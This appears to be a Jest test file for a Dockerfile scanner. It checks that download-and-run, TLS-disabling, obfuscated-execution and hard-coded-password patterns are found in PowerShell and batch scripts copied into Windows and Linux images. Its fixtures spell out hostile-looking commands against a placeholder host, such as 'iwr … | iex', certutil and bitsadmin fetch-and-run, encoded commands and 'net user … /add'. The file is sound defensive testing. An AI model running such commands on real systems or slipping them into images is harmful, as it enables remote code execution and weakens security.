import { beforeAll, describe, expect, it } from '@jest/globals';
import type { ScanReport } from '../../src/triage/scan-report.ts';
import type { Files } from '../properties/repository.ts';
import { scanFiles } from '../properties/soundness.ts';
import { shortened, timeFor } from '../support/heavy.ts';
import { inTimeAsync } from '../support/in-time.ts';

const CMD = 'FROM mcr.microsoft.com/windows/servercore:ltsc2025\n';
const PS = `${CMD}SHELL ["powershell", "-Command"]\n`;
const LINUX = 'FROM mcr.microsoft.com/powershell:7.5-ubuntu-24.04\n';
const BACKTICK = `# escape=\`\n${PS}`;
const PERHAPS = 'FROM registry.example.com/a/servercore:1\n';

const A = 'https://x.example/a';
const CODE = `iwr ${A} | iex\n`;
const BATCH = `@echo off\r\ncurl -o a.exe ${A}\r\na.exe /S\r\n`;
const RULES =
  /^(?:remote-script-exec|download-unverified|tls-verify-disabled|obfuscated-exec|password-set-in-image|cleartext-fetch)$/;

/** Whatever is copied is found in one of these files. */
const OTHERS: Files = { 'lib/a.ps1': CODE, 'lib/a.psm1': CODE, 'lib/a.txt': CODE, 'lib/b.cmd': BATCH };

/** A name, the files of a folder, and where something is found. */
type Row = readonly [name: string, files: Files, places: readonly string[]];

function calls(lines: string, files: Files, ...places: readonly string[]): Row {
  return [lines, { Dockerfile: lines, ...files }, places];
}

const CALLS: readonly Row[] = [
  ...[
    `${CMD}COPY a.ps1 .\nRUN powershell -File a.ps1\n`,
    `${CMD}COPY a.ps1 C:/\nRUN powershell -ExecutionPolicy Bypass -File C:\\a.ps1\n`,
    `${CMD}COPY a.ps1 .\nRUN powershell .\\A.PS1\n`,
    `${CMD}COPY a.ps1 .\nRUN powershell -Command .\\a.ps1 -X 1\n`,
    `${CMD}WORKDIR C:\\app\nCOPY a.ps1 C:/app/\nRUN powershell -Command "& C:\\app\\a.ps1"\n`,
    `${PS}COPY a.ps1 .\nRUN .\\a.ps1\n`,
    `${PS}COPY . .\nRUN & ./a -x; Remove-Item b\n`,
    `${PS}COPY . .\nRUN . ./a.ps1\n`,
    `${PS}COPY a.ps1 C:/s/\nENV D=C:/s\nRUN & $env:D/a.ps1\n`,
    `${PS}COPY a.ps1 .\nRUN Start-Process powershell -ArgumentList "-File a.ps1" -Wait\n`,
    `${PS}COPY a.ps1 C:/\nRUN Get-Content C:/a.ps1 -Raw | iex\n`,
    `${BACKTICK}COPY a.ps1 C:\\s\\\nRUN C:\\s\\a.ps1\n`,
    `${BACKTICK}WORKDIR C:\\app\nCOPY ["a.ps1", "C:\\\\s\\\\"]\nRUN ["powershell", "C:\\\\s\\\\a.ps1"]\n`,
    `${CMD}COPY a.ps1 .\nRUN ["powershell", "-File", "a.ps1"]\n`,
    `${CMD}COPY a.ps1 .\nCMD ["powershell", "-File", "a.ps1"]\n`,
    `${CMD}COPY a.ps1 .\nCMD powershell -File a.ps1\n`,
    `${CMD}COPY a.ps1 C:/x.ps1\nENTRYPOINT ["powershell.exe", "-NoLogo", "-File", "C:\\\\x.ps1"]\n`,
    `${CMD}COPY a.ps1 C:/\nHEALTHCHECK CMD powershell C:/a.ps1\n`,
    `${LINUX}COPY a.ps1 /\nRUN pwsh -File /a.ps1\n`,
    `${LINUX}COPY a.ps1 /x\nRUN pwsh /x\n`,
    `${LINUX}COPY a.ps1 /\nRUN pwsh -Command - < /a.ps1\n`,
    `${LINUX}COPY a.ps1 /\nRUN cat /a.ps1 | pwsh -\n`,
    `${LINUX}COPY a.ps1 /\nRUN pwsh -c '. /a.ps1'\n`,
    `${LINUX}COPY a.ps1 /\nCMD ["pwsh", "/a.ps1"]\n`,
    `${LINUX}SHELL ["pwsh", "-Command"]\nCOPY a.ps1 /\nRUN /a.ps1\n`,
    `${LINUX}RUN --mount=type=bind,source=a.ps1,target=/x.ps1 pwsh /x.ps1\n`,
    `${PERHAPS}COPY a.ps1 .\nRUN powershell -File a.ps1\n`,
    `${PS}COPY a.ps1 /s/\nFROM mcr.microsoft.com/windows/servercore:ltsc2025\nCOPY --from=0 /s/a.ps1 .\nRUN powershell -File a.ps1\n`,
  ].map((lines) => calls(lines, { 'a.ps1': CODE }, 'a.ps1:1')),
  ...[
    `${CMD}COPY a.bat .\nRUN .\\a.bat\n`,
    `${CMD}COPY a.bat .\nRUN a.bat\n`,
    `${CMD}COPY a.bat .\nRUN a\n`,
    `${CMD}COPY a.bat x.cmd\nRUN cmd /c x.cmd\n`,
    `${CMD}COPY a.bat x.cmd\nRUN ["cmd", "/S", "/C", "x.cmd"]\n`,
    `${CMD}COPY a.bat x.cmd\nRUN call x.cmd && echo a\n`,
    `${PS}COPY a.bat x.cmd\nRUN ./x.cmd\n`,
    `${CMD}COPY a.bat C:/x.cmd\nENTRYPOINT ["C:\\\\x.cmd"]\n`,
    `${CMD}COPY a.bat C:/x.cmd\nCMD C:\\x.cmd\n`,
  ].map((lines) => calls(lines, { 'a.bat': BATCH }, 'a.bat:2')),
  calls(`${LINUX}COPY a.ps1 /\nRUN /a.ps1\n`, { 'a.ps1': `#!/usr/bin/env pwsh\n${CODE}` }, 'a.ps1:2'),
  calls(`${LINUX}COPY <<E /a.ps1\n${CODE}E\nRUN pwsh /a.ps1\n`, {}, 'Dockerfile:3'),
  calls(`${LINUX}RUN echo '${CODE.trim()}' > /a.ps1 && pwsh /a.ps1\n`, {}, 'Dockerfile:2'),
  calls(
    `${LINUX}COPY a.sh b.ps1 /\nENTRYPOINT ["/a.sh"]\n`,
    { 'a.sh': '#!/bin/sh\nexec pwsh -NoProfile -File /b.ps1 "$@"\n', 'b.ps1': CODE },
    'b.ps1:1',
  ),
  calls(`${LINUX}WORKDIR /w\nCOPY . .\nRUN make x\n`, { Makefile: 'x:\n\tpwsh ./b.ps1\n', 'b.ps1': CODE }, 'b.ps1:1'),
  calls(
    `${CMD}WORKDIR C:/w\nCOPY . .\nRUN npm run x\n`,
    { 'package.json': '{"scripts":{"x":"powershell -File b.ps1"}}', 'b.ps1': CODE },
    'b.ps1:1',
  ),
];

function powershell(text: string, ...places: readonly string[]): Row {
  return [text, { ...OTHERS, Dockerfile: `${PS}COPY . C:/s\nWORKDIR C:/s\nRUN .\\a.ps1\n`, 'a.ps1': text }, places];
}

const POWERSHELL: readonly Row[] = [
  ...[
    `iwr ${A} |\n  iex\n`,
    `iwr ${A} |\r\n  iex\r\n`,
    `iwr ${A}\n\n  | iex\n`,
    `iwr ${A} \`\n  | iex\n`,
    `iex (\n  irm ${A}\n)\n`,
    `i\`wr ${A} | i\`ex\n`,
    `iex (irm \u2018${A}\u2019)\n`,
    `\uFEFF${CODE}`,
    `\uFFFD\uFFFD${CODE}`,
    `curl ${A} | bash\n`,
    `[Net.ServicePointManager]::ServerCertificateValidationCallback = { $true }\n`,
    `Invoke-WebRequest ${A} -SkipCertificateCheck -OutFile a.txt\n`,
    'curl.exe -k https://x.example/a -o a.txt\n',
    'powershell -EncodedCommand SQBFAFgAIAAoAEkAUgBNACAAaAB0AHQAcABzADoALwAvAGUAdgBpAGwAKQA=\n',
    `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4')))\n`,
    'net user a not-a-real-password /add\n',
    `Invoke-RestMethod ${A}/a.msi -OutFile a.msi\nmsiexec /i a.msi /qn\n`,
    `Start-BitsTransfer -Source ${A} -Destination a.exe\n./a.exe\n`,
    `certutil -urlcache -f ${A} a.exe\n./a.exe\n`,
    `iwr http://x.example/a -OutFile a.txt\n`,
  ].map((text) => powershell(text, 'a.ps1:1')),
  ...[
    `$s = (New-Object Net.WebClient).DownloadString('${A}')\nInvoke-Expression $s\n`,
    `$d = [Convert]::FromBase64String('aWV4')\niex $d\n`,
    `$f = "$env:TEMP\\a.exe"\nInvoke-WebRequest ${A} -OutFile $f\nStart-Process -FilePath $f -Wait\n`,
    `Set-Alias -Name x -Value iex\niwr ${A} | x\n`,
    `<#\n ${CODE}#>${CODE}`.replace(CODE, 'a\n'),
  ].map((text) => powershell(text, text.startsWith('<#') ? 'a.ps1:3' : 'a.ps1:2')),
  powershell(`$p = @{ Uri = '${A}'; OutFile = 'a.exe' }\nInvoke-WebRequest @p\n.\\a.exe\n`, 'a.ps1:1'),
  powershell(`$x = @"\n say "a\n"@\n${CODE}`, 'a.ps1:4'),
  powershell('. $PSScriptRoot\\lib\\a.ps1\n', 'lib/a.ps1:1'),
  powershell("Import-Module (Join-Path $PSScriptRoot 'lib' 'a.psm1')\n", 'lib/a.psm1:1'),
  powershell('Get-ChildItem C:\\s\\lib\\*.ps1 | ForEach-Object { & $_.FullName }\n', 'lib/a.ps1:1'),
  powershell('iex (Get-Content -Raw .\\lib\\a.txt)\n', 'lib/a.txt:1'),
  powershell('Copy-Item lib\\a.txt x.ps1\n.\\x.ps1\n', 'lib/a.txt:1'),
  powershell('Set-Location lib\n.\\a.ps1\n', 'lib/a.ps1:1'),
  powershell("Start-Process powershell -ArgumentList '-File','C:\\s\\lib\\a.ps1'\n", 'lib/a.ps1:1'),
  powershell('& cmd /c lib\\b.cmd\n', 'lib/b.cmd:2'),
  ...[
    'Write-Host "a"\nNew-Item -ItemType Directory b\n',
    `# ${CODE}<#\n ${CODE}#>\nWrite-Host "a"\n`,
    `iwr ${A} -OutFile a.zip\nif ((Get-FileHash a.zip).Hash -ne $env:H) { exit 1 }\nExpand-Archive a.zip C:\\tools\n`,
    '$r = Invoke-RestMethod https://x.example/a\n$r | ConvertTo-Json\n',
    'Remove-Item lib\\a.ps1, lib\\b.cmd\nUnblock-File lib\\a.ps1\n',
    `$x = @'\n${CODE}'@\nSet-Content a.log $x\n`,
    '$d = [Convert]::FromBase64String($env:D)\nSet-Content a.pem $d\n',
  ].map((text) => powershell(text)),
];

function batch(text: string, ...places: readonly string[]): Row {
  return [text, { ...OTHERS, Dockerfile: `${CMD}COPY . .\nRUN a.bat\n`, 'a.bat': text }, places];
}

const BATCHES: readonly Row[] = [
  ...[
    `cu^rl -o a.exe ${A}\r\na.exe\r\n`,
    `@curl -o "%TEMP%\\a.exe" ${A}\r\n"%TEMP%\\a.exe" /S\r\n`,
    `curl -o a.exe ^\r\n  ${A}\r\ncall a.exe\r\n`,
    `bitsadmin /transfer j ${A} %CD%\\a.exe\r\n%CD%\\a.exe\r\n`,
    `powershell -Command "irm ${A} | iex"\r\n`,
    'git config --global http.sslVerify false\r\n',
    'set NODE_TLS_REJECT_UNAUTHORIZED=0\r\n',
  ].map((text) => batch(text, text.includes(' ^') ? 'a.bat:2' : 'a.bat:1')),
  batch(`if not exist a.exe (\r\n  curl -o a.exe ${A}\r\n  start "" /wait a.exe\r\n)\r\n`, 'a.bat:2'),
  batch('call "%~dp0lib\\b.cmd"\r\n', 'lib/b.cmd:2'),
  batch('powershell -File "%~dp0lib\\a.ps1"\r\n', 'lib/a.ps1:1'),
  batch('pushd lib\r\nb.cmd\r\npopd\r\n', 'lib/b.cmd:2'),
  batch('for %%f in (lib\\*.cmd) do call %%f\r\n', 'lib/b.cmd:2'),
  batch(`@echo off\r\nrem curl -o a.exe ${A} & a.exe\r\n:: powershell iex (irm ${A})\r\ndotnet build -c Release\r\n`),
  batch('del lib\\b.cmd\r\ntype lib\\a.ps1\r\n'),
];

const TABLES = { 'how they are called': CALLS, PowerShell: POWERSHELL, cmd: BATCHES };

describe.each(Object.entries(TABLES))('copied scripts of Windows are read: %s', (_, rows) => {
  let report: ScanReport;

  // one scan for all, each in a folder of its own
  beforeAll(async () => {
    const files = rows.flatMap(([, each], at) =>
      Object.entries({ '.dockerignore': '', ...each }).map(([path, text]) => [`f${at}/${path}`, text] as const),
    );
    report = await scanFiles(Object.fromEntries(files));
  });

  it.each(rows.map(([name, , places], at) => [name, at, places] as const))('%j', (_name, at, places) => {
    const folder = `f${at}/`;
    const found = report.findings
      .filter(({ ruleId, span }) => RULES.test(ruleId) && span.file.path.startsWith(folder))
      .map(
        ({ span: { file, start } }) =>
          `${file.path.slice(folder.length)}:${file.text.slice(0, start).split('\n').length}`,
      );
    expect([...new Set(found)]).toEqual(places);
    const gaps = report.notifications.filter(({ gap, span }) => {
      return (
        span?.file.path.startsWith(folder) &&
        !['expected', undefined].includes(gap?.weight) &&
        gap?.kind !== 'unknown-shell'
      );
    });
    expect(gaps).toEqual([]);
  });
});

it.each(['<#', '@"\n', '^\r\n', '(\n', '\n', 'sal a b\n', '. .\\b.ps1;', '$p=@{', 'iwr @p;'])(
  'a copied script takes time in line with its length: %j',
  async (piece) => {
    await inTimeAsync(timeFor(6000), async () => {
      const text = piece.repeat(shortened(100_000 / piece.length));
      await scanFiles({ Dockerfile: `${PS}COPY . .\nRUN .\\a.ps1; .\\b.bat\n`, 'a.ps1': text, 'b.bat': text });
    });
  },
);
